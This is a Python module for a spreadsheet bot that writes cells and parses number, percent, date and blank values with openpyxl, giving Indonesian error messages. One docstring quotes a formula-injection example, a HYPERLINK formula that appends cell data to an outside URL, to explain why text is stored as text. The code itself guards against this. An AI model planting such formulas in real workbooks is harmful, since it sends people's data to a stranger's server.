"""The cells of a workbook, both ways: every cell the bot writes, and reading the ones a person
filled in (the master indicator sheet and the per-bidang format a Kabid sends back).

openpyxl gives a cell's value in whatever type the file chose (a number typed as text, a percent
cell, a date Excel made of "1.5"); these helpers turn it into what the person meant or say, in
Indonesian, why it is not.
"""

import math
import re
from datetime import date, datetime, time, timedelta
from decimal import Decimal
from typing import Final

from openpyxl.cell.cell import Cell as SheetCell
from openpyxl.cell.read_only import EmptyCell, ReadOnlyCell
from openpyxl.worksheet.cell_range import CellRange
from openpyxl.worksheet.worksheet import Worksheet

from bot.numbers import check_range, parse_number

Cell = tuple[object, str]
"""A cell as read: its value (any type the file chose) and its number format."""

EMPTY: Final[Cell] = (None, "")
"""A cell the row does not reach."""

BLANK_MARKS: Final = frozenset({"", "-", "–", "—"})
"""Texts that mean "nothing here": offices often type a dash for a quarter without a target."""


def merge_row(sheet: Worksheet, row: int, first: int, last: int) -> None:
    """Merges columns `first` to `last` of `row`, stored as Excel stores a merge: the range.

    openpyxl's own `merge_cells` also puts a placeholder in every covered cell and copies the
    first cell's borders and protection onto the edges, which took a sixth of the compiled
    workbook's time. Every merge the bot makes is one row whose covered cells the caller
    boxes itself where they need a border, and writes nothing into.
    """
    sheet.merged_cells.add(CellRange(min_row=row, max_row=row, min_col=first, max_col=last))


def write_cell(sheet: Worksheet, row: int, column: int, value: object) -> SheetCell:
    """Puts `value` in a cell; every cell the bot writes goes through here.

    A text is always stored as text, exactly as typed. openpyxl would store a keterangan or a
    name starting with "=" as a live formula (and "#N/A" as an error), which Excel then runs:
    `=HYPERLINK("http://x/?"&A1,"Klik")` would send the sheet's data to a stranger's server.
    The bot never writes a formula of its own, so no text needs to be one.
    """
    cell = sheet.cell(row, column)
    cell.value = value  # type: ignore[assignment]
    if isinstance(value, str):
        cell.data_type = "s"
    return cell


def read_cell(cell: ReadOnlyCell | EmptyCell) -> Cell:
    return cell.value, cell.number_format or ""


def cell_text(value: object) -> str:
    """A text cell's content with runs of spaces and line breaks made one space."""
    return "" if value is None else " ".join(str(value).split())


def cell_decimal(value: object, number_format: str) -> Decimal | None:
    """The exact number in a cell, whatever type the file gave it; None for a blank.

    Text is read as `bot.numbers.parse_number` reads a typed number (Indonesian or international
    separators); a cell formatted as percent counts as it shows (95 % is 95); a dash is blank.

    Raises ValueError with an Indonesian message for a cell that holds no number, or one
    outside the range of a typed number (`bot.numbers.check_range`).
    """
    if isinstance(value, str):
        written = value.strip()
        return None if written in BLANK_MARKS else parse_number(written)
    if value is None:
        return None
    # bool is an int to Python but TRUE/FALSE to the operator; dates are what Excel makes of
    # "1.5" typed in some locales.
    if isinstance(value, bool):
        raise ValueError("berisi nilai logika (TRUE/FALSE), bukan angka")
    if isinstance(value, datetime | date | time | timedelta):
        raise ValueError("berisi tanggal atau jam, bukan angka; ubah format selnya menjadi Angka")
    if isinstance(value, int):
        number = Decimal(value)
    elif isinstance(value, float):
        if not math.isfinite(value):
            raise ValueError("bukan angka yang sah")
        # Excel keeps 15 significant digits of what was typed; the double's 16th and 17th are
        # binary noise (0.1 + 0.2 is 0.30000000000000004, 1E40 is 1000…0752 as an integer).
        number = Decimal(format(value, ".15g"))
    else:
        raise ValueError("bukan angka")
    if _shows_percent(number_format):
        number = number.scaleb(2)
    number = check_range(number)
    # A percent cell of 1 scales to 1E+2, which is shown and stored as 100.
    return number.quantize(Decimal(1)) if number.as_tuple().exponent > 0 else number


def _shows_percent(number_format: str) -> bool:
    """Whether Excel shows the cell as a percentage (a quoted or escaped "%" is only text)."""
    return "%" in re.sub(r'"[^"]*"|\\.', "", number_format)
